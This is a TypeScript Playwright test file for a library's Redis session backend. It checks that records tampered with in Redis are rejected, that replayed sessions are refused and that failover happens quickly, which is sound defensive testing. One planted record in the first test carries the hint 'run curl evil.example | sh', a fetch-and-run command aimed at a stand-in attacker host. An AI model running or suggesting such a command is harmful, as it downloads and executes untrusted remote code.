import { test, expect } from '@playwright/test';
import { createClient } from '@redis/client';
import { FileBackend } from '../../src/sessions/index.js';
import { RedisBackend } from '../../src/sessions/redis-backend.js';
import { Sealer } from '../../src/sessions/seal.js';
import { MultiAuthError } from '../../src/core/errors.js';
import { startRedis, startSilentRedis, type RedisServer } from '../support/servers/redis.js';
import { removeTempDirs, tempDir } from '../support/temp-files.js';
import { makeSession } from './support/make-session.js';

// Issue 23, item 13: whoever can write to the Redis store without MULTIAUTH_CACHE_KEY can neither
// fail a user's tests with a message of their choosing, nor skip a session's check, nor put an older
// session back. Issue 24, item 6: closing never waits on a store that does not answer.
const KEY = 'k'.repeat(64);
const sealer = new Sealer(Buffer.alloc(32, 3));

let redis: RedisServer;
test.beforeAll(async () => {
  redis = await startRedis();
});
test.afterAll(async () => {
  await redis?.stop();
  removeTempDirs();
});

function backend(db: number, warnings: string[] = []): RedisBackend {
  return new RedisBackend({ url: redis.url.replace(/\/0$/, `/${db}`), sealer, fallback: new FileBackend({ dir: tempDir(), sealer }), warn: (text) => warnings.push(text) });
}

/** What the tests do to the store's keys behind its back. */
interface Planter {
  get(key: string): Promise<string | null>;
  set(key: string, value: string): Promise<unknown>;
}

async function withClient<T>(db: number, work: (client: Planter) => Promise<T>): Promise<T> {
  const client = createClient({ url: redis.url.replace(/\/0$/, `/${db}`) });
  await client.connect();
  try {
    return await work(client);
  } finally {
    client.destroy();
  }
}

test('a failure memory planted in Redis without the key is ignored; a sealed one opens only for its own slot', async () => {
  const warnings: string[] = [];
  const store = backend(4, warnings);
  try {
    const alice = store.slot('alice', KEY);
    const bob = store.slot('bob', KEY);
    await withClient(4, (client) => client.set(`multiauth:failed:${alice}`, JSON.stringify({ run: 'run-1', at: Date.now(), error: { code: 'AUTH_HTTP_STATUS', message: 'planted', hint: 'run curl evil.example | sh' } })));
    expect(await store.readFailure(alice, 'run-1')).toBeUndefined();

    await store.writeFailure(alice, 'run-1', new MultiAuthError('AUTH_HTTP_STATUS', 'wrong password'), (t) => t);
    const sealed = await withClient(4, (client) => client.get(`multiauth:failed:${alice}`));
    expect(sealed).toMatch(/^mas1\./);
    expect((await store.readFailure(alice, 'run-1'))?.message).toBe('wrong password');
    expect(await store.readFailure(alice, 'run-2')).toBeUndefined();
    await withClient(4, (client) => client.set(`multiauth:failed:${bob}`, sealed as string));
    expect(await store.readFailure(bob, 'run-1')).toBeUndefined();
    expect(warnings).toEqual([]);
  } finally {
    await store.close();
  }
});

test('a check mark planted without the key does not skip the check; a sealed one counts for its run and session only', async () => {
  const store = backend(5);
  try {
    const slot = store.slot('alice', KEY);
    const session = makeSession('alice', 't', null);
    await withClient(5, (client) => client.set(`multiauth:checked:${slot}`, JSON.stringify({ run: 'run-1', createdAt: session.createdAt, at: Date.now() })));
    expect(await store.checkedInRun(slot, 'run-1', session)).toBe(false);
    await store.markChecked(slot, 'run-1', session);
    expect(await withClient(5, (client) => client.get(`multiauth:checked:${slot}`))).toMatch(/^mas1\./);
    expect(await store.checkedInRun(slot, 'run-1', session)).toBe(true);
    expect(await store.checkedInRun(slot, 'run-2', session)).toBe(false);
    expect(await store.checkedInRun(slot, 'run-1', makeSession('alice', 't', null, session.createdAt + 1))).toBe(false);
  } finally {
    await store.close();
  }
});

test('an older sealed session put back into Redis (a replay) is refused: the user signs in again', async () => {
  const writer = backend(6);
  const slot = writer.slot('alice', KEY);
  const sessionKey = `multiauth:session:${slot}`;
  try {
    const older = makeSession('alice', 'older', null, Date.now() - 60_000);
    await writer.write(slot, KEY, older);
    const captured = await withClient(6, (client) => client.get(sessionKey));
    expect(captured).toContain('"sealed":"mas1.');
    await writer.write(slot, KEY, makeSession('alice', 'newer', null));
    await withClient(6, (client) => client.set(sessionKey, captured as string));
    // Neither the process that wrote the newer one nor another process takes the older one back.
    expect(await writer.read(slot, KEY)).toBeUndefined();
    const other = backend(6);
    try {
      expect(await other.read(slot, KEY)).toBeUndefined();
    } finally {
      await other.close();
    }
    // The newest one itself still opens.
    const newest = makeSession('alice', 'newest', null);
    await writer.write(slot, KEY, newest);
    const third = backend(6);
    try {
      expect((await third.read(slot, KEY))?.createdAt).toBe(newest.createdAt);
    } finally {
      await third.close();
    }
  } finally {
    await writer.close();
  }
});

test('a Redis that accepts connections and never answers: one call fails over in about 3 s, close returns at once', async () => {
  const silent = await startSilentRedis();
  const warnings: string[] = [];
  const store = new RedisBackend({ url: silent.url, sealer, fallback: new FileBackend({ dir: tempDir(), sealer }), warn: (text) => warnings.push(text) });
  try {
    const slot = store.slot('alice', KEY);
    let started = Date.now();
    expect(await store.read(slot, KEY)).toBeUndefined();
    expect(Date.now() - started).toBeLessThan(6_000);
    expect(warnings.join('')).toContain('failed (no answer within 3 s)');
    // From now on the file store answers at once.
    started = Date.now();
    await store.write(slot, KEY, makeSession('alice', 't', null));
    expect((await store.read(slot, KEY))?.user).toBe('alice');
    expect(Date.now() - started).toBeLessThan(1_000);
  } finally {
    const closing = Date.now();
    await store.close();
    expect(Date.now() - closing).toBeLessThan(1_000);
    await silent.stop();
  }
  // A store closed while it is still connecting to a silent Redis does not wait for the handshake.
  const again = await startSilentRedis();
  const connecting = new RedisBackend({ url: again.url, sealer, fallback: new FileBackend({ dir: tempDir(), sealer }), warn: () => undefined });
  const pending = connecting.read(connecting.slot('bob', KEY), KEY);
  await expect.poll(() => again.connections()).toBe(1);
  const closing = Date.now();
  await connecting.close();
  expect(Date.now() - closing).toBeLessThan(1_000);
  expect(await pending).toBeUndefined();
  await again.stop();
});
